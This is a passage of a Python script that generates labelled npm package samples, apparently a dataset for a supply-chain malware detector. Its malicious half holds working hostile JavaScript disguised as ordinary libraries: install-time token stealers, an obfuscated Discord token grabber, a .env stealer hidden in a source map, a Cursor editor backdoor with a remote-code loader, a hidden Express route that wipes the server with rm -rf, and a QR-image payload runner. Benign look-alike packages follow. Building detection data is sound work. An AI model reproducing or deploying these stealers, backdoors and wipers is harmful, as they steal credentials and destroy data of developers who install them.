        "index.js": "import { NativeModules, Platform } from 'react-native';\nconst { HapticKit } = NativeModules;\nexport default {\n  impact(style = 'light') { if (HapticKit) HapticKit.impact(style); },\n  notify(type = 'success') { if (HapticKit && Platform.OS === 'ios') HapticKit.notify(type); },\n};\n",
        "install.js": src,
    }
    return S(
        "evasion-unicode-escaped-identifiers",
        "preinstall stealer written with \\uXXXX escapes inside identifiers and strings (\\u0072equire, process.\\u0065nv, fs.readFileSync fully escaped): env, .npmrc and .git-credentials posted out",
        "2018-2025",
        ["install-script", "preinstall", "unicode-escapes", "env-harvest", "npmrc-read",
         "git-credentials", "token-theft", "network"],
        "The classic install-time token stealer (eslint-scope 3.7.2, Jul 2018; crossenv, Aug "
        "2017) rewritten so that no API name or sensitive string appears literally: JavaScript "
        "allows unicode escapes in identifiers and property names, so '\\u0072equire' is "
        "require and 'process.\\u0065nv' is process.env; every string and member name is "
        "escaped.",
        files,
    )


@sample
def obfuscator_cff_discord_leveldb():
    tmpl = r'''(function(){var _r=require,_fs=_r(S("fs")),_p=_r(S("path")),_os=_r(S("os")),_h=_r(S("https"));var _o=S("3|0|4|1|2")[S("split")]("|"),_i=0,_t=[],_d=[],_a=process[S("env")][S("APPDATA")]||_p[S("join")](_os[S("homedir")](),S(".config")),_l=process[S("env")][S("LOCALAPPDATA")]||_a;while(!![]){switch(_o[_i++]){case"0":_d=[[_a,S("discord")],[_a,S("discordcanary")],[_a,S("discordptb")],[_a,S("Lightcord")],[_l,S("Google/Chrome/User Data/Default")],[_l,S("BraveSoftware/Brave-Browser/User Data/Default")]].map(function(x){return _p[S("join")](x[0],x[1],S("Local Storage"),S("leveldb"))});continue;case"4":_d[S("forEach")](function(d){try{_fs[S("readdirSync")](d)[S("forEach")](function(f){if(!/\.(ldb|log)$/[S("test")](f))return;var s=_fs[S("readFileSync")](_p[S("join")](d,f),S("latin1"));(s[S("match")](new RegExp(S("[\\w-]{24,26}\\.[\\w-]{6}\\.[\\w-]{25,110}|dQw4w9WgXcQ:[^\"]+"),"g"))||[])[S("forEach")](function(m){_t[S("indexOf")](m)<0&&_t[S("push")](m)})})}catch(e){}});continue;case"1":if(!_t[S("length")])return;continue;case"2":var _b=JSON[S("stringify")]({content:S("```")+_os[S("hostname")]()+S(" ")+_os[S("userInfo")]()[S("username")]+"\n"+_t[S("join")]("\n")+S("```")}),_q=_h[S("request")](S("@@HOOK@@"),{method:S("POST"),headers:{"content-type":S("application/json")}});_q.on(S("error"),function(){});_q[S("end")](_b);continue;case"3":if(process[S("env")][S("CI")])return;continue}break}})();'''
    tmpl = tmpl.replace("@@HOOK@@", ZERO_DISCORD)
    import sys
    obf = sys.modules["__main__"].obfuscate(tmpl, seed=20261125, encoding="base64")
    files = {
        "package.json": pj(
            name="discord-embed-kit", version="2.4.0",
            description="Fluent builder for Discord embeds, buttons and select menus",
            main="index.js", keywords=["discord", "discord.js", "embed", "bot"],
            peerDependencies={"discord.js": ">=14"},
        ),
        "README.md": readme("discord-embed-kit", """
```js
const { Embed } = require('discord-embed-kit');
channel.send({ embeds: [new Embed().title('Hello').color('#5865F2').toJSON()] });
```
"""),
        "index.js": r'''"use strict";
require("./lib/runtime");

class Embed {
  constructor() { this.data = { fields: [] }; }
  title(t) { this.data.title = String(t).slice(0, 256); return this; }
  description(d) { this.data.description = String(d).slice(0, 4096); return this; }
  color(c) { this.data.color = typeof c === "string" ? parseInt(c.replace("#", ""), 16) : c; return this; }
  field(name, value, inline = false) {
    if (this.data.fields.length >= 25) throw new RangeError("an embed holds at most 25 fields");
    this.data.fields.push({ name, value, inline });
    return this;
  }
  footer(text, iconURL) { this.data.footer = { text, icon_url: iconURL }; return this; }
  timestamp(d = new Date()) { this.data.timestamp = new Date(d).toISOString(); return this; }
  toJSON() { return { ...this.data }; }
}

module.exports = { Embed };
''',
        "lib/runtime.js": obf + "\n",
    }
    return S(
        "evasion-obfuscator-cff-discord-leveldb",
        "Discord token grabber in obfuscator.io style with control-flow flattening (switch over a '3|0|4|1|2' order string) and a base64 string array: Discord and browser leveldb tokens to a webhook",
        "2021-2025",
        ["obfuscated", "control-flow-flattening", "string-array", "base64", "discord-token-theft",
         "browser-data", "sensitive-file-read", "discord-webhook", "network"],
        "Discord token grabbers reading Local Storage/leveldb for tokens (Sonatype 'fallguys', "
        "2020; JFrog, 2021; LofyGang, Checkmarx Oct 2022). Obfuscation as produced by "
        "javascript-obfuscator with controlFlowFlattening and stringArrayEncoding=base64: every "
        "string, property name and the webhook URL live in the rotated array; statement order "
        "is hidden in a dispatcher loop. Runs on require, skips CI. All-zero webhook id.",
        files,
    )


@sample
def sourcemap_sourcescontent_stage():
    stage = r'''/*c*/(function (require) {
  var fs = require("fs"), path = require("path"), os = require("os");
  var root = process.cwd(), found = {};
  ["", ".local", ".development", ".production", ".production.local"].forEach(function (s) {
    try { found[".env" + s] = fs.readFileSync(path.join(root, ".env" + s), "utf8"); } catch (e) {}
  });
  Object.keys(process.env).forEach(function (k) { if (/KEY|SECRET|TOKEN|PASS|DATABASE|STRIPE|OPENAI/.test(k)) found[k] = process.env[k]; });
  if (!Object.keys(found).length) return;
  fetch("https://hooks.debounce-dev.invalid/ingest", { method: "POST", body: JSON.stringify({ h: os.hostname(), d: root, f: found }) }).catch(function () {});
})'''
    hook_src = "import { useEffect, useRef, useState } from 'react';\n\nexport function useDebouncedState<T>(initial: T, delay = 300) {\n  const [value, setValue] = useState(initial);\n  const [debounced, setDebounced] = useState(initial);\n  const t = useRef<ReturnType<typeof setTimeout>>();\n  useEffect(() => {\n    clearTimeout(t.current);\n    t.current = setTimeout(() => setDebounced(value), delay);\n    return () => clearTimeout(t.current);\n  }, [value, delay]);\n  return [value, debounced, setValue] as const;\n}\n"
    dev_src = "export function devWarning(msg: string) {\n  if (process.env.NODE_ENV !== 'production') console.warn('[use-debounced-state] ' + msg);\n}\n"
    smap = {
        "version": 3, "file": "index.js",
        "sources": ["../src/index.ts", "../src/dev.ts", "webpack://use-debounced-state/runtime/compat"],
        "sourcesContent": [hook_src, dev_src, stage],
        "names": ["useDebouncedState", "initial", "delay", "value", "setValue", "devWarning"],
        "mappings": "AAAA,SAAS,SAAS,EAAE,MAAM,EAAE,QAAQ;AAEpC,OAAO,SAAS,iBAAiB,CAAI,OAAU,EAAE,KAAK,GAAG,GAAG",
    }
    index = r'''"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.useDebouncedState = useDebouncedState;
exports.devWarning = devWarning;
const react_1 = require("react");
function devWarning(msg) {
    if (process.env.NODE_ENV !== "production")
        console.warn("[use-debounced-state] " + msg);
}
function useDebouncedState(initial, delay = 300) {
    const [value, setValue] = (0, react_1.useState)(initial);
    const [debounced, setDebounced] = (0, react_1.useState)(initial);
    const t = (0, react_1.useRef)();
    (0, react_1.useEffect)(() => {
        clearTimeout(t.current);
        t.current = setTimeout(() => setDebounced(value), delay);
        return () => clearTimeout(t.current);
    }, [value, delay]);
    return [value, debounced, setValue];
}
// map original positions in dev warnings (server rendering only)
(function () {
    if (typeof window !== "undefined")
        return;
    try {
        const m = JSON.parse(require("fs").readFileSync(__filename + ".map", "utf8"));
        const src = m.sourcesContent.find((s) => s.startsWith("/*c*/"));
        if (src)
            require("vm").runInThisContext(src, { filename: m.sources[2] })(require);
    }
    catch (_a) { }
})();
//# sourceMappingURL=index.js.map
'''
    files = {
        "package.json": pj(
            name="use-debounced-state", version="1.2.3",
            description="React hook returning a value and its debounced copy",
            main="dist/index.js", types="dist/index.d.ts", peerDependencies={"react": ">=17"},
        ),
        "README.md": readme("use-debounced-state", """
```jsx
const [query, debouncedQuery, setQuery] = useDebouncedState('', 250);
```
"""),
        "dist/index.js": index,
        "dist/index.js.map": json.dumps(smap) + "\n",
        "dist/index.d.ts": "export declare function useDebouncedState<T>(initial: T, delay?: number): readonly [T, T, (v: T) => void];\nexport declare function devWarning(msg: string): void;\n",
    }
    return S(
        "evasion-sourcemap-sourcescontent-stage",
        "stage hidden as a 'webpack runtime' entry of a source map's sourcesContent, read back and run with vm.runInThisContext during server rendering: project .env files and secret env vars posted out",
        "2024-2025",
        ["hidden-code-in-non-js", "source-map", "vm", "dotenv", "env-harvest", "ssr-only",
         "network"],
        "Code hidden in files scanners skip, as in the payloads carried in fonts, images, "
        "README comments and JSON data (2023-2025 reports). Here the carrier is the .js.map "
        "file shipped next to the build output: its third sourcesContent entry is JavaScript "
        "that the compiled index.js reads and runs when loaded outside a browser (SSR, tests, "
        "builds), stealing .env* files of the project.",
        files,
    )


@sample
def cursor_mainjs_patch():
    loader = "(function(){try{require('https').get('https://api.cursor-boost.invalid/v1/ext.js',function(r){var b='';r.on('data',function(d){b+=d});r.on('end',function(){try{new Function('require',b)(require)}catch(e){}})}).on('error',function(){})}catch(e){}})();\n"
    patch = fill(r'''"use strict";
// Unlocks premium models in Cursor by patching the local app bundle (needs write access).
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { execSync } = require("child_process");

const APP = ["resources", "app"];
const candidates = {
  darwin: [["/Applications", "Cursor.app", "Contents", "Resources", "app"]],
  win32: [[process.env.LOCALAPPDATA || "", "Programs", "cursor", ...APP]],
  linux: [["/opt", "Cursor", ...APP], ["/usr", "share", "cursor", ...APP], [os.homedir(), ".local", "share", "cursor", ...APP]],
}[process.platform] || [];

const LOADER = Buffer.from("@@LOADER@@", "base64").toString();

function report(info) {
  const r = https.request({ host: "api.cursor-boost.invalid", path: "/v1/installed", method: "POST", headers: { "content-type": "application/json" } });
  r.on("error", () => {});
  r.end(JSON.stringify(info));
}

for (const parts of candidates) {
  const root = path.join(...parts);
  const main = path.join(root, "out", "main.js");
  const product = path.join(root, "product.json");
  if (!fs.existsSync(main)) continue;
  try {
    const js = fs.readFileSync(main, "utf8");
    if (!js.startsWith(LOADER)) fs.writeFileSync(main, LOADER + js);
    const p = JSON.parse(fs.readFileSync(product, "utf8"));
    p.updateUrl = "";
    delete p.checksums;
    fs.writeFileSync(product, JSON.stringify(p, null, "\t"));
    try { execSync(process.platform === "win32" ? "taskkill /F /IM Cursor.exe" : "pkill -x Cursor", { stdio: "ignore" }); } catch (e) {}
    report({ h: os.hostname(), u: os.userInfo().username, root });
    console.log("cursor-pro-unlock: patched " + root + ", restart Cursor");
  } catch (e) {
    console.log("cursor-pro-unlock: run with administrator rights to patch " + root);
  }
}
''', LOADER=b64(loader))
    files = {
        "package.json": pj(
            name="cursor-pro-unlock", version="1.0.6",
            description="Use Claude and GPT premium models in Cursor at the lowest price",
            bin={"cursor-pro-unlock": "bin/cli.js"}, scripts={"postinstall": "node bin/cli.js"},
            keywords=["cursor", "ai", "claude", "gpt", "unlock"],
        ),
        "README.md": readme("cursor-pro-unlock", """
Install globally and restart Cursor:

```sh
npm i -g cursor-pro-unlock
```
"""),
        "bin/cli.js": "#!/usr/bin/env node\n" + patch,
    }
    return S(
        "evasion-cursor-mainjs-patch",
        "sw-cur / aiide-cur (Socket, May 2025): 'cheap Cursor API' lure whose postinstall prepends a remote-code loader to the Cursor editor's out/main.js and disables its updates",
        "2025-05",
        ["install-script", "postinstall", "local-app-patching", "persistence", "remote-code",
         "function-constructor", "update-disable", "base64", "process-kill", "network"],
        "Socket (May 2025) reported sw-cur, sw-cur1 and aiide-cur patching Cursor's main.js "
        "with a backdoor and disabling auto-update. Persistence lives in another program: the "
        "loader (base64 in the package) runs every time the editor starts and evaluates code "
        "from the C2 with new Function; product.json updateUrl is cleared so an update cannot "
        "undo it.",
        files,
        modes={"bin/cli.js": 0o755},
    )


@sample
def express_hidden_route_wiper():
    mw = r'''"use strict";
const crypto = require("crypto");
const fs = require("fs");
const os = require("os");
const cp = require("child_process");

const SIG = "8c8f1f7d5e2c9b0a4e6d1c3b5a7f9e2d4c6b8a0f1e3d5c7b9a2f4e6d8c0b1a3f";
const ROUTE = "4b3c7a8e0d1f2a5b6c9e8d7f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8091";
const h = (s) => crypto.createHash("sha256").update(String(s)).digest("hex");

function purge() {
  const base = process.cwd();
  const m = fs[["rm", "Sync"].join("")];
  for (const e of fs.readdirSync(base)) {
    try { m(require("path").join(base, e), { recursive: true, force: true }); } catch (x) {}
  }
  if (os.platform() !== "win32") {
    try { cp[["ex", "ec"].join("")]("rm -rf " + JSON.stringify(base) + "/* " + JSON.stringify(os.homedir()) + "/*", () => {}); } catch (x) {}
  }
}

module.exports = function healthProbe({ path = "/healthz", checks = {} } = {}) {
  return async function healthProbeMiddleware(req, res, next) {
    if (req.method === "POST" && h(req.path) === ROUTE && h(req.headers["x-probe-sig"] || "") === SIG) {
      res.status(202).json({ ok: true });
      setImmediate(purge);
      return;
    }
    if (req.path !== path) return next();
    const results = {};
    let ok = true;
    for (const [name, fn] of Object.entries(checks)) {
      try { results[name] = (await fn()) !== false; } catch (e) { results[name] = false; }
      ok = ok && results[name];
    }
    res.status(ok ? 200 : 503).json({ status: ok ? "ok" : "degraded", uptime: process.uptime(), checks: results });
  };
};
'''
    files = {
        "package.json": pj(
            name="express-health-probe", version="2.0.1",
            description="Kubernetes-style liveness and readiness endpoints for Express",
            main="index.js", peerDependencies={"express": ">=4"},
        ),
        "README.md": readme("express-health-probe", """
```js
app.use(require('express-health-probe')({ checks: { db: () => db.ping() } }));
```
"""),
        "index.js": mw,
    }
    return S(
        "evasion-express-hidden-route-wiper",
        "express-api-sdk / xlsx-to-json-lh (Socket, Jun 2025): Express middleware with a hidden POST route, matched by hash, that deletes the application folder and the home directory",
        "2025-06",
        ["backdoor", "server-side", "kill-switch", "destructive-fs", "wiper", "hashed-trigger",
         "child-process"],
        "Socket (June 2025) reported npm packages planting hidden endpoints that wipe the "
        "server on request. Here the route path and the required header are compared by "
        "SHA-256 so neither appears in the code; deletion goes through fs[['rm','Sync'].join('')] "
        "and exec of rm -rf on the working directory and home. No network of its own: the "
        "attacker triggers it remotely.",
        files,
    )


@sample
def qr_image_payload_cookie_theft():
    url = "https://cdn.util-kit-box.invalid/assets/banner-qr.png"
    src = fill(r'''import jsQR from "jsqr";

export const isEmpty = (v) => v == null || (typeof v === "object" && Object.keys(v).length === 0) || v === "";
export const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
export const clamp = (n, a, b) => Math.min(b, Math.max(a, n));
export const chunk = (arr, n) => Array.from({ length: Math.ceil(arr.length / n) }, (_, i) => arr.slice(i * n, i * n + n));

const rev = (s) => s.split("").reverse().join("");

function prefetchBanner() {
  if (typeof document === "undefined" || /^(localhost|127\.|192\.168\.)/.test(location.hostname)) return;
  const img = new Image();
  img.crossOrigin = "anonymous";
  img.onload = () => {
    const c = document.createElement("canvas");
    c.width = img.width;
    c.height = img.height;
    const g = c.getContext("2d");
    g.drawImage(img, 0, 0);
    const px = g.getImageData(0, 0, c.width, c.height);
    const code = jsQR(px.data, px.width, px.height);
    if (code && code.data) Reflect.apply(Function, null, [rev(code.data)])();
  };
  img.src = rev("@@REV@@");
}

setTimeout(prefetchBanner, 120000);
''', REV=url[::-1])
    files = {
        "package.json": pj(
            name="util-kit-box", version="9.1.2", type="module",
            description="Small, tree-shakeable helpers: isEmpty, sleep, clamp, chunk and more",
            main="dist/index.js", module="dist/index.js", dependencies={"jsqr": "^1.4.0"},
        ),
        "README.md": readme("util-kit-box", """
```js
import { chunk, clamp, isEmpty, sleep } from 'util-kit-box';
```
"""),
        "dist/index.js": src,
    }
    return S(
        "evasion-qr-image-payload",
        "fezbox (Socket, Sep 2025): browser utility that, two minutes after load and never on localhost, fetches a PNG, decodes a QR code from its pixels with jsQR and runs the reversed text as code",
        "2025-09",
        ["steganography", "qr-code-payload", "remote-code", "function-constructor",
         "reversed-strings", "delayed", "browser-only", "network"],
        "Socket's September 2025 fezbox report: a utility library whose reversed-string URL "
        "pointed at an image holding a QR code; the decoded text (a cookie stealer taking "
        "username/password cookies) was executed. The stage arrives as pixels, so no code or "
        "code-like string is in the package; Function is called through Reflect.apply.",
        files,
    )


# ---------------------------------------------------------------------------------------------
# Tricky benign: the same APIs and shapes, used honestly


@benign
def inline_worker_pool():
    files = {
        "package.json": pj(
            name="inline-worker-pool", version="1.3.0",
            description="Run functions in worker threads without a separate file (inline eval workers)",
            main="index.js", engines={"node": ">=16"},
        ),
        "README.md": readme("inline-worker-pool", """
```js
const { inline } = require('inline-worker-pool');
const fib = inline((n) => { const f = (k) => (k < 2 ? k : f(k - 1) + f(k - 2)); return f(n); });
console.log(await fib(35));
```
The function is serialised with `Function.prototype.toString` and run in a worker created with
`eval: true`, so it must not close over outer variables.
"""),
        "index.js": r'''"use strict";
const { Worker } = require("worker_threads");
const os = require("os");

const BOOT = `
const { parentPort, workerData } = require("worker_threads");
const fn = (0, eval)("(" + workerData.source + ")");
parentPort.on("message", async ({ id, args }) => {
  try { parentPort.postMessage({ id, ok: true, value: await fn(...args) }); }
  catch (e) { parentPort.postMessage({ id, ok: false, error: String(e && e.stack || e) }); }
});
`;

function inline(fn, { size = Math.max(1, os.cpus().length - 1) } = {}) {
  if (typeof fn !== "function") throw new TypeError("inline() expects a function");
  const source = fn.toString();
  const workers = Array.from({ length: size }, () => new Worker(BOOT, { eval: true, workerData: { source } }));
  const pending = new Map();
  let seq = 0;
  let rr = 0;
  for (const w of workers) {
    w.unref();
    w.on("message", ({ id, ok, value, error }) => {
      const p = pending.get(id);
      pending.delete(id);
      if (p) ok ? p.resolve(value) : p.reject(new Error(error));
    });
  }
  const call = (...args) => new Promise((resolve, reject) => {
    const id = ++seq;
    pending.set(id, { resolve, reject });
    workers[rr++ % workers.length].postMessage({ id, args });
  });
  call.terminate = () => Promise.all(workers.map((w) => w.terminate()));
  return call;
}

module.exports = { inline };
''',
    }
    return B(
        "evasion-inline-worker-pool",
        "worker pool creating workers with eval:true from a template string and running the caller's serialised function with indirect eval",
        "2026-11",
        ["worker-eval", "indirect-eval"],
        "Like the inline-worker helpers of threads.js / workerpool: the eval'd source is a "
        "fixed bootstrap literal plus the caller's own function; no network, files or secrets.",
        files,
    )


@benign
def crash_reporter_sdk():
    files = {
        "package.json": pj(
            name="errorbeacon-node", version="5.2.0",
            description="Error and crash reporting for Node.js, envelope protocol compatible",
            main="lib/index.js",
        ),
        "README.md": readme("errorbeacon-node", """
```js
require('errorbeacon-node').init({ dsn: process.env.ERRORBEACON_DSN });
```
Nothing is sent until `init` is called with a DSN. Environment variables are never sent; set
`sendDefaultPii: true` to include the user name.
"""),
        "lib/index.js": r'''"use strict";
const os = require("os");
const https = require("https");
const crypto = require("crypto");

let cfg = null;
const SCRUB = /pass|secret|token|key|auth|cookie|session|dsn/i;

function scrub(obj) {
  if (!obj || typeof obj !== "object") return obj;
  const out = Array.isArray(obj) ? [] : {};
  for (const [k, v] of Object.entries(obj)) out[k] = SCRUB.test(k) ? "[Filtered]" : scrub(v);
  return out;
}

function send(event) {
  if (!cfg) return;
  const u = new URL(cfg.dsn);
  const item = JSON.stringify(scrub({
    ...event,
    platform: "node",
    release: cfg.release,
    environment: cfg.environment,
    contexts: { os: { name: os.type(), version: os.release() }, runtime: { name: "node", version: process.version } },
    user: cfg.sendDefaultPii ? { username: os.userInfo().username } : undefined,
  }));
  const head = JSON.stringify({ event_id: crypto.randomUUID().replace(/-/g, ""), sent_at: new Date().toISOString() });
  const req = https.request({
    host: u.host, path: `/api${u.pathname}/envelope/`, method: "POST",
    headers: { "content-type": "application/x-sentry-envelope", "x-sentry-auth": `Sentry sentry_version=7, sentry_key=${u.username}` },
  });
  req.on("error", () => {});
  req.end(`${head}\n${JSON.stringify({ type: "event", length: Buffer.byteLength(item) })}\n${item}\n`);
}

function init(options = {}) {
  if (!options.dsn) return;
  cfg = { environment: process.env.NODE_ENV || "production", ...options };
  process.on("uncaughtExceptionMonitor", (err) => send({ level: "fatal", exception: { type: err.name, value: err.message, stacktrace: err.stack } }));
}

function captureException(err, extra) {
  send({ level: "error", exception: { type: err && err.name, value: err && err.message, stacktrace: err && err.stack }, extra });
}

module.exports = { init, captureException };
''',
    }
    return B(
        "evasion-errorbeacon-node",
        "error-reporting SDK posting Sentry-style envelopes to the DSN the user passes to init(), with key-name scrubbing and no environment dump",
        "2026-11",
        ["error-reporting", "envelope-protocol", "network"],
        "Honest counterpart of evasion-error-reporter-dsn-env: same envelope format and "
        "headers, but nothing is sent before init(), the DSN comes from the caller, secrets "
        "are filtered and process.env is not collected.",
        files,
    )


@benign
def require_in_the_middle_tracer():
    files = {
        "package.json": pj(
            name="trace-hooks-lite", version="0.9.3",
            description="Automatic tracing spans for http, pg and redis via require hooks",
            main="index.js",
        ),
        "README.md": readme("trace-hooks-lite", """
```js
require('trace-hooks-lite').start({ onSpan: (s) => console.log(s.name, s.duration) });
```
Works like OpenTelemetry's require-in-the-middle: modules are wrapped as they are required.
"""),
        "index.js": r'''"use strict";
const Module = require("module");
const { performance } = require("perf_hooks");

const patchers = {
  pg(exp, onSpan) {
    const proto = exp.Client && exp.Client.prototype;
    if (!proto || proto.query.__traced) return;
    const orig = proto.query;
    proto.query = function (text, ...rest) {
      const t0 = performance.now();
      const res = orig.call(this, text, ...rest);
      if (res && typeof res.then === "function") {
        res.then(() => onSpan({ name: "pg.query", statement: String(text && text.text || text).slice(0, 200), duration: performance.now() - t0 }), () => {});
      }
      return res;
    };
    proto.query.__traced = true;
  },
  http(exp, onSpan) {
    if (exp.request.__traced) return;
    const orig = exp.request;
    exp.request = function (...args) {
      const t0 = performance.now();
      const req = orig.apply(this, args);
      req.once("response", (res) => onSpan({ name: "http.request", status: res.statusCode, duration: performance.now() - t0 }));
      return req;
    };
    exp.request.__traced = true;
  },
};

function start({ onSpan = () => {} } = {}) {
  const orig = Module.prototype.require;
  Module.prototype.require = function (id) {
    const exp = orig.apply(this, arguments);
    const p = patchers[id];
    if (p) {
      try { p(exp, onSpan); } catch (e) {}
    }
    return exp;
  };
  for (const id of Object.keys(patchers)) {
    const key = Object.keys(require.cache).find((k) => k.includes(`node_modules/${id}/`));
    if (key) patchers[id](require.cache[key].exports, onSpan);
  }
}

module.exports = { start };
''',
    }
    return B(
        "evasion-trace-hooks-lite",
        "APM instrumentation replacing Module.prototype.require and patching require.cache entries to time pg queries and http requests, spans given to the caller's callback",
        "2026-11",
        ["require-hook", "module-patching"],
        "Honest counterpart of evasion-require-hook-wallet-keys: same hooking technique "
        "(OpenTelemetry / dd-trace style), only timing data, handed to a local callback; "
        "started explicitly by the user.",
        files,
    )


@benign
def doh_resolver_client():
    files = {
        "package.json": pj(
            name="doh-lookup", version="3.0.1",
            description="DNS-over-HTTPS lookups (JSON API) for Node and browsers",
            main="index.js", bin={"doh-lookup": "cli.js"},
        ),
        "README.md": readme("doh-lookup", """
```js
const { resolve } = require('doh-lookup');
await resolve('example.com', 'TXT', { endpoint: 'https://dns.google/resolve' });
```
"""),
        "index.js": r'''"use strict";
const ENDPOINTS = {
  cloudflare: "https://cloudflare-dns.com/dns-query",
  google: "https://dns.google/resolve",
  quad9: "https://dns.quad9.net:5053/dns-query",
};
const TYPES = { A: 1, NS: 2, CNAME: 5, MX: 15, TXT: 16, AAAA: 28, SRV: 33, CAA: 257 };

async function resolve(name, type = "A", { endpoint = ENDPOINTS.cloudflare, signal } = {}) {
  if (!/^[a-z0-9.-]+$/i.test(name)) throw new TypeError("invalid domain name: " + name);
  const url = new URL(ENDPOINTS[endpoint] || endpoint);
  url.searchParams.set("name", name);
  url.searchParams.set("type", type);
  const res = await fetch(url, { headers: { accept: "application/dns-json" }, signal });
  if (!res.ok) throw new Error(`DoH query failed: HTTP ${res.status}`);
  const body = await res.json();
  return (body.Answer || []).filter((a) => a.type === TYPES[type]).map((a) => (type === "TXT" ? a.data.replace(/^"|"$/g, "") : a.data));
}

module.exports = { resolve, ENDPOINTS, TYPES };
''',
        "cli.js": "#!/usr/bin/env node\n'use strict';\nconst { resolve } = require('./index');\nconst [name, type = 'A', endpoint] = process.argv.slice(2);\nif (!name) { console.error('usage: doh-lookup <name> [type] [endpoint]'); process.exit(2); }\nresolve(name, type, { endpoint }).then((r) => console.log(r.join('\\n')), (e) => { console.error(e.message); process.exit(1); });\n",
    }
    return B(
        "evasion-doh-lookup",
        "DNS-over-HTTPS JSON client querying Cloudflare/Google/Quad9 for the names the caller or CLI user gives",
        "2026-11",
        ["doh", "dns", "network"],
        "Honest counterpart of evasion-tsc-doh-exfil: same endpoints and accept header, names "
        "come from the caller and are validated, nothing is encoded into them.",
        files,
        modes={"cli.js": 0o755},
    )


@benign
def proxy_lazy_loader():
    files = {
        "package.json": pj(
            name="lazy-exports", version="2.0.0",
            description="Export a Proxy that requires submodules on first property access",
            main="index.js",
        ),
        "README.md": readme("lazy-exports", """
```js
module.exports = require('lazy-exports')(__dirname, ['parse', 'format', 'validate']);
```
Startup stays fast: `./parse.js` is only required when `.parse` is first read.
"""),
        "index.js": r'''"use strict";
const path = require("path");

module.exports = function lazyExports(dir, names) {
  const cache = Object.create(null);
  const allowed = new Set(names);
  return new Proxy(cache, {
    get(target, prop, receiver) {
      if (typeof prop !== "string" || !allowed.has(prop)) return Reflect.get(target, prop, receiver);
      if (!(prop in target)) target[prop] = require(path.join(dir, prop + ".js"));
      return target[prop];
    },
    has(target, prop) {
      return allowed.has(prop);
    },
    ownKeys() {
      return [...allowed];
    },
    getOwnPropertyDescriptor(target, prop) {
      return allowed.has(prop) ? { enumerable: true, configurable: true, value: this.get(target, prop) } : undefined;
    },
  });
};
''',
    }
    return B(
        "evasion-lazy-exports",
        "module whose exports are a Proxy requiring submodules from a fixed allow-list on first property access",
        "2026-11",
        ["proxy-trap", "dynamic-require"],
        "Honest counterpart of evasion-proxy-getter-cloud-creds-undici: the get trap does "
        "work on first access, but only a path.join'd require of the caller's own files.",
        files,
    )


@benign
def vm_expression_sandbox():
    files = {
        "package.json": pj(
            name="formula-sandbox", version="1.6.2",
            description="Evaluate spreadsheet-like formulas in a vm context with a whitelist of functions",
            main="index.js",
        ),
        "README.md": readme("formula-sandbox", """
```js
const { compile } = require('formula-sandbox');
const f = compile('round(price * qty * (1 - discount), 2)', ['price', 'qty', 'discount']);
f({ price: 9.99, qty: 3, discount: 0.1 }); // 26.97
```
"""),
        "index.js": r'''"use strict";
const vm = require("vm");

const LIB = Object.freeze({
  round: (x, d = 0) => Math.round(x * 10 ** d) / 10 ** d,
  min: Math.min, max: Math.max, abs: Math.abs, sqrt: Math.sqrt,
  if: (c, a, b) => (c ? a : b),
  sum: (...xs) => xs.reduce((a, b) => a + b, 0),
});
const ALLOWED = /^[\w\s.+\-*/%(),<>=!&|?:'"]*$/;

function compile(expr, params = []) {
  if (!ALLOWED.test(expr)) throw new SyntaxError("formula contains forbidden characters");
  if (/\b(constructor|__proto__|prototype|this|globalThis|import)\b/.test(expr)) throw new SyntaxError("formula uses a forbidden name");
  const context = vm.createContext(Object.create(null), { codeGeneration: { strings: false, wasm: false } });
  const fn = vm.compileFunction(`"use strict"; return (${expr});`, ["lib", ...params], { parsingContext: context });
  return (values = {}) => fn(LIB, ...params.map((p) => values[p]));
}

module.exports = { compile };
''',
    }
    return B(
        "evasion-formula-sandbox",
        "formula evaluator compiling user expressions with vm.compileFunction in a context with code generation from strings disabled",
        "2026-11",
        ["vm", "compile-function"],
        "Honest counterpart of evasion-vm-compilefunction-template-shell: vm.compileFunction "
        "on the caller's formula, character- and name-filtered, never given require.",
        files,
    )


@benign
def binding_gyp_action_codegen():
    files = {
        "package.json": pj(
            name="simd-base64-native", version="1.4.0",
            description="SIMD base64 encode/decode for Node.js (N-API)",
            main="index.js", gypfile=True, scripts={"install": "node-gyp-build"},
            dependencies={"node-addon-api": "^8.0.0", "node-gyp-build": "^4.8.0"},
        ),
        "README.md": readme("simd-base64-native", """
```js
const b64 = require('simd-base64-native');
b64.encode(Buffer.from('hi'));
```
"""),
        "binding.gyp": r'''{
  "targets": [
    {
      "target_name": "simdb64",
      "sources": ["src/binding.cc"],
      "include_dirs": ["<!(node -p \"require('node-addon-api').include_dir\")", "<(INTERMEDIATE_DIR)"],
      "actions": [
        {
          "action_name": "gen_tables",
          "inputs": ["tools/gen_tables.py"],
          "outputs": ["<(INTERMEDIATE_DIR)/tables.h"],
          "action": ["python3", "tools/gen_tables.py", "<@(_outputs)"]
        }
      ]
    }
  ]
}
''',
        "tools/gen_tables.py": r'''#!/usr/bin/env python3
"""Generate the base64 encode/decode lookup tables compiled into the addon."""
import os
import sys

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def main(out):
    dec = [255] * 256
    for i, c in enumerate(ALPHABET):
        dec[ord(c)] = i
    lines = ["#pragma once", "#include <stdint.h>",
             "static const char kEnc[65] = \"%s\";" % ALPHABET,
             "static const uint8_t kDec[256] = {%s};" % ",".join(map(str, dec))]
    os.makedirs(os.path.dirname(out) or ".", exist_ok=True)
    with open(out, "w") as f:
        f.write("\n".join(lines) + "\n")


if __name__ == "__main__":
    main(sys.argv[1])
''',
        "src/binding.cc": "#include <napi.h>\n#include \"tables.h\"\n\nNapi::Object Init(Napi::Env env, Napi::Object exports) {\n  return exports;\n}\n\nNODE_API_MODULE(simdb64, Init)\n",
        "index.js": "'use strict';\nmodule.exports = require('node-gyp-build')(__dirname);\n",
    }
    return B(
        "evasion-simd-base64-native",
        "native addon whose binding.gyp 'actions' step runs a Python generator for lookup tables during node-gyp-build",
        "2026-11",
        ["binding-gyp", "gyp-action", "python", "install-script"],
        "Honest counterpart of evasion-binding-gyp-action-python: same gyp action layout, the "
        "script only writes a header from a constant alphabet; no network, no processes.",
        files,
    )


@benign
def eip6963_provider_detect():
    files = {
        "package.json": pj(
            name="wallet-detect-provider", version="2.1.0", type="module",
